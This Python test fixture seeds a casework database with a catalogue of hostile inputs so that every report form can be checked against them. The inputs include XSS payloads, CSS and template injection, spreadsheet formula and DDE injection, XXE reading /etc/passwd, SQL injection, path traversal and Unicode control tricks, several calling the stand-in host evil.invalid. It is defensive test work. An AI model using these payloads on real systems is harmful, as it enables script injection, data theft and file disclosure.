"""What strangers write to do harm, and an office's database with it in every place that a stranger can write to.

Every form of every report must stand it: add a form to ``test_hostile.FORMS`` and it is tried. What runs would set
``window.owned``, ask for ``http://evil.invalid/``, or open a dialog.
"""

from __future__ import annotations

from datetime import UTC, datetime

from sqlalchemy.orm import Session

from patrol.db.casework import ComplaintFiling
from patrol.db.models import (
    Campaign,
    Capture,
    CaptureText,
    Complaint,
    Lead,
    LeadEvent,
    Match,
    Patrol,
    PatrolTarget,
    Signal,
    Target,
    Work,
    WorkText,
)
from patrol.text.storage import storable
from patrol.vocabulary import Field, Grade, MatchKind
from tests.reports.cases import NOVEL

RUN = "window.owned=1;alert(1);fetch('http://evil.invalid/')"

SCRIPTS = {
    "a script": f"<script>{RUN}</script>",
    "a script in capitals": f"<SCRIPT>{RUN}</SCRIPT>",
    "a script in a script": f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    "a script from elsewhere": "<script src=http://evil.invalid/a.js></script>",
    "out of a style": f"</style><script>{RUN}</script>",
    "out of a title": f"</title><script>{RUN}</script>",
    "out of a text area": f"</textarea></noscript></select><script>{RUN}</script>",
    "out of a comment": f"--><script>{RUN}</script><!--",
    "out of CDATA": f"]]><script>{RUN}</script>",
    "out of JSON": f'"}}</script><script>{RUN}</script>',
    "a module": f"<script type=module>{RUN}</script>",
    "an image that fails": f'<img src=x onerror="{RUN}">',
    "an image from elsewhere": "<img src=http://evil.invalid/p.png>",
    "SVG that loads": f"<svg/onload={RUN}>",
    "SVG with a script": f"<svg><script>{RUN}</script></svg>",
    "SVG animation": f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    "MathML": f'<math><mtext></p><style><img title="</style><img src=x onerror={RUN}>">',
    "out of an attribute": f"\"' autofocus onfocus={RUN} x='",
    "an attribute without quotes": f"x onmouseover={RUN}",
    "back quotes": f"`onmouseover={RUN}`",
    "details that open": f"<details open ontoggle={RUN}>",
    "video": f"<video><source onerror={RUN}></video>",
    "a body": f"<body onload={RUN}>",
    "a base": "<base href=http://evil.invalid/>",
    "a refresh": '<meta http-equiv=refresh content="0;url=http://evil.invalid/">',
    "a policy": "<meta http-equiv=Content-Security-Policy content=\"script-src *\">",
    "a frame": f"<iframe srcdoc=\"<script>parent.{RUN}</script>\"></iframe>",
    "an object": "<object data=http://evil.invalid/></object><embed src=http://evil.invalid/>",
    "a form": "<form action=http://evil.invalid/><input name=q><button>核对</button></form>",
    "a link": f'<a href="javascript:{RUN}">看</a>',
    "a javascript address": f"javascript:{RUN}",
    "a broken javascript address": f"java\tscript:{RUN}",
    "a data address": f"data:text/html,<script>{RUN}</script>",
    "a vbscript address": "vbscript:msgbox(1)",
    "a file address": "file:///etc/passwd",
    "entities": "&lt;script&gt;&#x61;lert(1)&lt;/script&gt;&amp;&quot;",
    "entities twice": "&amp;lt;script&amp;gt;",
    "UTF-7": "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "overlong quotes": "＜script＞alert(1)＜/script＞",
}  # fmt: skip
STYLES = {
    "a style": "<style>body{display:none}*{background:url(http://evil.invalid/)}</style>",
    "an import": "@import url(http://evil.invalid/a.css);",
    "style in an attribute": '" style="position:fixed;inset:0;background:red;z-index:9999',
    "an expression": "width:expression(alert(1))",
    "out of a CSS string": '";}body{display:none}/*',
    "a CSS escape": "\\22\\3b \\7d body\\7b display:none\\7d",
    "a style sheet from elsewhere": "<link rel=stylesheet href=http://evil.invalid/a.css>",
}
TEMPLATES = {
    "Jinja": "{{ 7*7 }}{% for x in y %}",
    "Jinja's inside": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "Jinja comment": "{# 不见了 #}",
    "docxtpl": "{%p if true %}{%tr for a in b %}{{r x }}",
    "format": "{0.__class__} %s %n %(x)s ${7*7} #{7*7} <%= 7*7 %>",
    "rich markup": "[bold red]加粗[/] [link=http://evil.invalid]x[/link]",
    "the digest's place": "@@DIGEST@@",
}
CELLS = {
    "equals": "=1+1",
    "a link": '=HYPERLINK("http://evil.invalid/","看")',
    "a program": "=cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "plus": "+1+1",
    "minus": "-2+3",
    "tab": "\t=1+1",
    "return": "\r=1+1",
    "a space before": "  =1+1",
    "full width": "＝1+1",
    "quoted": '"=1+1","=2+2"',
    "an array": "{=1+1}",
    "separators": "甲,乙;丙\t丁\r\n戊|己",
    "a web service": '=WEBSERVICE("http://evil.invalid/")',
}
XML = {
    "out of a run": "</w:t></w:r></w:p><w:p><w:r><w:t>插入</w:t></w:r></w:p>",
    "a field": "<w:instrText>DDEAUTO c:\\\\windows\\\\calc.exe</w:instrText>",
    "an entity": '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>&x;',
    "a namespace": '<x:y xmlns:x="urn:z">z</x:y>',
    "an instruction": "<?xml-stylesheet href='http://evil.invalid/'?>",
    "shared string": "_x000D__x0041_",
}
LETTERS = {
    "right to left override": "\u202e反过来的字\u202c",
    "isolates": "\u2066甲\u2067乙\u2068丙",
    "embedding without end": "\u202b" * 40 + "甲",
    "Arabic": "مرحبا بالعالم 123",
    "Hebrew": "שלום עולם (א)",
    "zero width": "隐\u200b形\u200c字\u200d\ufeff\u2060",
    "soft hyphens": "软\u00ad连\u00ad字",
    "null": "前\x00后",
    "controls": "\x07\x08\x0b\x0c\x1b[31m红\x1b[0m\x7f\x85",
    "a terminal's title": "\x1b]0;owned\x07",
    "line separators": "上\u2028下\u2029尾",
    "a lone surrogate": "\ud83d半",
    "not characters": "\ufffe\uffff\U0010ffff",
    "private use": "\ue000\uf8ff",
    "tags": "\U000e0041\U000e0042",
    "a flood of marks": "Z" + "\u0301\u0327\u0489" * 400,
    "marks without a base": "\u0301" * 60,
    "emoji": "👨‍👩‍👧‍👦🏳️‍🌈👍🏽",
    "emoji without end": "👨" + "‍👩" * 300,
    "look-alikes": "раураl ｐａｙｐａｌ 𝐩𝐚𝐲𝐩𝐚𝐥",
    "a very wide character": "﷽𒐫꧅" * 20,
    "an overlong line": "a" * 5000,
    "an overlong Chinese line": "超长" * 2500,
    "an overlong number": "9" * 3000,
    "an overlong address": "http://evil.invalid/" + "%E8%B6%85" * 900,
    "many lines": "\n" * 3000 + "尾",
    "nothing but spaces": " \u3000\u00a0" * 200,
    "a path": "../../../../etc/passwd",
    "a reserved name": 'CON.PRN.NUL|<>:"/\\?*',
    "SQL": "'; DROP TABLE lead; --",
}
ATTACKS: dict[str, str] = {
    f"{group}: {name}": text
    for group, texts in (
        ("scripts", SCRIPTS), ("styles", STYLES), ("templates", TEMPLATES), ("cells", CELLS), ("xml", XML), ("letters", LETTERS),
    )
    for name, text in texts.items()
}  # fmt: skip
NOW = datetime(2026, 11, 24, 2, 0, tzinfo=UTC)


def plant(session: Session, site: str = "") -> int:
    """A lead for each attack, with the attack wherever its makers could write it; returns how many. With ``site`` all leads
    are of that one, so that a letter to it has them all."""
    session.add(Patrol(id=1, started_at=NOW, status="done"))
    session.add(Work(id="known", title="雾信", imported_at=NOW, text=WorkText(text=NOVEL)))
    session.flush()
    for number, attack in enumerate(ATTACKS.values(), start=1):
        _plant(session, number, storable(attack), site)
    return len(ATTACKS)


def _plant(session: Session, number: int, attack: str, site: str) -> None:
    short = attack[:100]
    site = site or short
    work = Work(
        id=f"w{number}", title=attack[:500], aliases=[attack], authors=[attack, "甲"], holder=attack[:500],
        registration=short, published=attack[:40], imported_at=NOW, text=WorkText(text=attack + NOVEL),
    )  # fmt: skip
    campaign = Campaign(name=f"{number}{attack[:190]}", focus=attack[:1000])
    target = Target(
        name=attack[:300], field="book", site=site, account=attack[:300], operator=attack[:300], note=attack[:2000],
        imported_at=NOW,
    )  # fmt: skip
    page = f"{attack}\n{NOVEL}{attack}"
    capture = Capture(
        patrol_id=1, site=site, page_kind="listing", url=f"http://a.example.cn/{attack}", canonical_url=str(number),
        http_status=200, fetched_at=NOW, warc_path="evidence/a.warc.gz", warc_offset=0, warc_length=1,
        record_id=f"r{number}", payload_sha256="0" * 64, record_sha256="1" * 64, chain_sha256="2" * 64, title=attack,
        extracted={"price": short, "seller": attack, "tags": [attack]}, page=CaptureText(text=page), judged_at=NOW,
    )  # fmt: skip
    session.add_all([work, campaign, target, capture])
    session.flush()
    session.add(PatrolTarget(patrol_id=1, target_id=target.id, status="failed", reason=attack[:1000]))
    complaint = Complaint(
        number=f"投〔2026〕{number:04d}号", key=str(number), received_at=NOW, url=capture.url, canonical_url=str(number),
        work_title=attack[:500], work_id=work.id, respondent=attack[:300], respondent_address=attack[:500],
        account=attack[:300], place=attack[:500], target_id=target.id,
    )  # fmt: skip
    session.add(complaint)
    session.flush()
    session.add(
        ComplaintFiling(
            complaint_id=complaint.id, key=str(number), received_at=NOW, complainant=attack[:300], contact=attack[:300],
            address=attack[:500], identity=attack[:300], facts=attack, proof=attack, copies=attack, source=attack[:1000],
        )
    )  # fmt: skip
    kinds, fields, grades = list(MatchKind), list(Field), list(Grade)
    lead = Lead(
        number=f"案线〔2026〕{number:04d}号", key=str(number), site=site, field=fields[number % len(fields)],
        kind=kinds[number % len(kinds)], work_id=work.id, title=attack, url=capture.url, seller=attack[:300],
        seller_url=attack, grade=grades[number % 3], score=90.0, found_at=NOW, patrol_id=1, campaign_id=campaign.id,
        department=short,
    )  # fmt: skip
    session.add(lead)
    session.flush()
    start = len(attack) + 1
    whole = {
        "page_start": 0,
        "page_end": len(page),
        "work_start": 0,
        "work_end": len(attack) + len(NOVEL),
        "identity": 0.9,
    }
    session.add(
        Match(
            capture_id=capture.id, lead_id=lead.id, work_id=work.id, kind="reskinned", probability=0.97,
            passages=[whole, whole | {"page_start": start, "page_end": start + len(NOVEL)}],
            renamings=[{"old": "陈默", "new": attack[:50], "support": 3}, {"old": attack[:50], "new": "甲", "support": 3}],
            disguises=[{"kind": "split", "count": 2, "example": attack[:40], "read_as": attack[:40]}],
            reasons=[{"code": "exact_run", "weight": 1.0, "values": [["longest", attack[:60]]]},
                     {"code": attack[:40], "weight": 0.5, "values": [[attack[:20], attack[:60]]]},
                     {"code": "script_structure", "weight": 0.0, "values": []}],
        )
    )  # fmt: skip
    for code in ("phrase", short[:60]):
        session.add(
            Signal(
                lead_id=lead.id, capture_id=capture.id, code=code, points=5.0, place=short, values={"phrase": attack}
            )
        )
    session.add(LeadEvent(lead_id=lead.id, at=NOW, who=short, status="new", reason=attack))
